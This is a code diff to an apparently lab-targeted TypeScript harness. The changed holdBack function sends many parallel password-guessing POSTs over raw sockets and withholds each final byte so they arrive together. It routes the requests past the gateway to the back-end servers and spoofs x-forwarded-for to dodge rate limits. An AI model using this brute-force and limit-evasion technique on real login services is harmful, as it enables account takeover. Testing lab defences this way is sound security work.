@@ -180,22 +180,25 @@ const parallel: Try[] = [
   },
 ];
 
-/** Opens them all, and only then lets the server have the end of each. */
+/**
+ * Opens them all, and only then lets the servers have the end of each. Past the gateway, which would pass on none before
+ * it has all of it.
+ */
 async function holdBack(lab: Lab, path: string, count: number, right: string): Promise<Answer[]> {
-  const { hostname, port } = new URL(lab.origin);
   const from = newAddress();
   const open = many(count, (index) => {
+    const { hostname, port } = new URL(lab.servers[index % lab.servers.length]?.origin ?? "");
     const body = new URLSearchParams({ password: guessOf(index, count - 2, right) });
     const text = body.toString();
     const socket = net.connect({ host: hostname, port: Number(port) });
     const chunks: Buffer[] = [];
     socket.on("error", () => {}).on("data", (bytes) => chunks.push(bytes));
     const headers = {
-      host: `${hostname}:${port}`,
+      host: new URL(lab.origin).host,
       "content-type": "application/x-www-form-urlencoded",
       "content-length": String(text.length),
       connection: "close",
-      ...(lab.gateway ? { "x-abuse-from": from } : { "x-forwarded-for": from }),
+      "x-forwarded-for": from,
     };
     const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
     socket.write(`POST ${path} HTTP/1.1\r\n${lines.join("")}\r\n${text.slice(0, -1)}`);
